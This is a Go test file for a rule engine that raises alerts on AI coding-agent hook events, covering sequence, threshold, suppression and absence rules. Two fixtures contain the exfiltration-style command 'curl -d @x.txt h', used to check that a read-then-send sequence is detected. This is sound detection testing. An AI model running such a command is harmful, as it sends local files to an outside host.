package detect

import (
	"slices"
	"testing"
	"time"

	"github.com/wardenhq/warden/internal/record"
)

func mustParse(tb testing.TB, src string) *Set {
	tb.Helper()
	set, err := Parse(nil, "r.yaml", []byte(src))
	if err != nil {
		tb.Fatal(err)
	}
	return set
}

func hookEvent(id, session string, at time.Duration, a record.AuditEventV1) record.Event {
	a.Schema, a.EventID, a.SessionID, a.Time = record.SchemaAuditV1, id, session, testBase.Add(at)
	if a.HookEvent == "" {
		a.HookEvent = "PreToolUse"
	}
	if a.Decision == "" {
		a.Decision = record.DecisionNone
	}
	return record.Event{ID: id, Source: record.SourceHook, Kind: a.HookEvent, Time: a.Time, SessionID: session,
		UserID: a.User, Tool: a.Tool, Decision: a.Decision, Audit: &a}
}

const seqRule = `rules:
  - id: t.seq
    title: T
    severity: high
    sequence:
      within: 10m
      steps:
        - if: event.tool == "Read"
          bind: {p: event.path}
        - if: event.tool == "Bash" && event.command.contains(vars.p)
`

// TestEvaluate_OrderIndependent: the alerts depend on event time, not on
// the order events arrive in, and the fingerprint is stable.
func TestEvaluate_OrderIndependent(t *testing.T) {
	set := mustParse(t, seqRule)
	evs := []record.Event{
		hookEvent("a", "s", 0, record.AuditEventV1{Tool: "Read", Path: "x.txt"}),
		hookEvent("b", "s", time.Minute, record.AuditEventV1{Tool: "Bash", Command: "cat y.txt"}),
		hookEvent("c", "s", 2*time.Minute, record.AuditEventV1{Tool: "Bash", Command: "curl -d @x.txt h"}),
	}
	want := set.Evaluate(evs, Options{})
	if len(want) != 1 || !slices.Equal(want[0].EventIDs, []string{"a", "c"}) {
		t.Fatalf("got %+v, want one alert on a, c", want)
	}
	rev := slices.Clone(evs)
	slices.Reverse(rev)
	got := set.Evaluate(rev, Options{})
	if len(got) != 1 || got[0].Fingerprint != want[0].Fingerprint {
		t.Fatalf("reversed input: got %+v, want %+v", got, want)
	}
}

// TestEvaluate_SequenceCarriesValue: the value bound in step one must be
// the one step two sees.
func TestEvaluate_SequenceCarriesValue(t *testing.T) {
	set := mustParse(t, seqRule)
	evs := []record.Event{
		hookEvent("a", "s", 0, record.AuditEventV1{Tool: "Read", Path: "x.txt"}),
		hookEvent("b", "s", time.Minute, record.AuditEventV1{Tool: "Bash", Command: "curl -d @y.txt h"}),
	}
	if got := set.Evaluate(evs, Options{}); len(got) != 0 {
		t.Fatalf("got %+v, want no alert", got)
	}
}

// TestEvaluate_GroupByUser: a threshold grouped by user counts across
// sessions and not across users.
func TestEvaluate_GroupByUser(t *testing.T) {
	set := mustParse(t, `rules:
  - id: t.thr
    title: T
    severity: low
    group_by: user
    threshold: {if: 'event.decision == "deny"', window: 1h, count: 3}
`)
	evs := []record.Event{
		hookEvent("a", "s1", 0, record.AuditEventV1{User: "ann", Decision: "deny"}),
		hookEvent("b", "s2", time.Minute, record.AuditEventV1{User: "ann", Decision: "deny"}),
		hookEvent("c", "s3", 2*time.Minute, record.AuditEventV1{User: "bob", Decision: "deny"}),
	}
	if got := set.Evaluate(evs, Options{}); len(got) != 0 {
		t.Fatalf("got %+v, want none (two users)", got)
	}
	evs = append(evs, hookEvent("d", "s4", 3*time.Minute, record.AuditEventV1{User: "ann", Decision: "deny"}))
	got := set.Evaluate(evs, Options{})
	if len(got) != 1 || got[0].Group != "ann" || !slices.Equal(got[0].EventIDs, []string{"a", "b", "d"}) {
		t.Fatalf("got %+v, want one alert for ann on a, b, d", got)
	}
}

// TestEvaluate_Suppress: a suppression silences matching alerts until it
// expires, by event time.
func TestEvaluate_Suppress(t *testing.T) {
	set := mustParse(t, `rules:
  - id: t.m
    title: T
    severity: low
    match: event.decision == "deny"
    suppress:
      - {when: 'event.repository == "sandbox"', owner: sec@example.com, reason: red-team range, expires: 2026-01-01}
`)
	evs := []record.Event{
		hookEvent("a", "s1", 0, record.AuditEventV1{Repository: "sandbox", Decision: "deny"}),
		hookEvent("b", "s1", 48*time.Hour, record.AuditEventV1{Repository: "sandbox", Decision: "deny"}),
		hookEvent("c", "s2", 0, record.AuditEventV1{Repository: "app", Decision: "deny"}),
	}
	got := set.Evaluate(evs, Options{})
	var ids []string
	for _, a := range got {
		ids = append(ids, a.EventIDs...)
	}
	slices.Sort(ids)
	if !slices.Equal(ids, []string{"b", "c"}) {
		t.Fatalf("alerts on %v, want b (after expiry) and c (other repository)", ids)
	}
}

// TestEvaluate_AbsenceWatermark: an absence alert waits for the
// watermark to pass its window.
func TestEvaluate_AbsenceWatermark(t *testing.T) {
	set, err := Builtin()
	if err != nil {
		t.Fatal(err)
	}
	evs := []record.Event{{ID: "r", Source: record.SourceOTLP, Kind: "tool_result", Time: testBase, SessionID: "s",
		Attrs: map[string]any{"tool_use_id": "t1"}}}
	o := Options{Rule: "protection.no-decision", Watermark: testBase.Add(59 * time.Second)}
	if got := set.Evaluate(evs, o); len(got) != 0 {
		t.Fatalf("before the window ends: %+v", got)
	}
	o.Watermark = testBase.Add(61 * time.Second)
	if got := set.Evaluate(evs, o); len(got) != 1 {
		t.Fatalf("after the window: got %d alerts, want 1", len(got))
	}
	// The decision arriving late (but dated in the window) clears it.
	evs = append(evs, hookEvent("d", "s", -time.Second, record.AuditEventV1{ToolUseID: "t1", Decision: "allow"}))
	if got := set.Evaluate(evs, o); len(got) != 0 {
		t.Fatalf("with the decision: %+v", got)
	}
}

// TestEvaluate_SessionUser: telemetry names the user by a hash, the audit
// by account; within a session both are the session's user.
func TestEvaluate_SessionUser(t *testing.T) {
	set := mustParse(t, `rules:
  - id: t.thr
    title: T
    severity: low
    group_by: user
    threshold: {if: 'event.kind == "PostToolUse" || event.kind == "tool_result"', window: 1h, count: 2}
`)
	evs := []record.Event{
		hookEvent("a", "s1", 0, record.AuditEventV1{HookEvent: "PostToolUse", User: "ann"}),
		{ID: "b", Source: record.SourceOTLP, Kind: "tool_result", SessionID: "s1", UserID: "5f2c-hash", Time: testBase.Add(time.Second)},
	}
	got := set.Evaluate(evs, Options{})
	if len(got) != 1 || got[0].Group != "ann" {
		t.Fatalf("got %+v, want one alert for ann", got)
	}
}
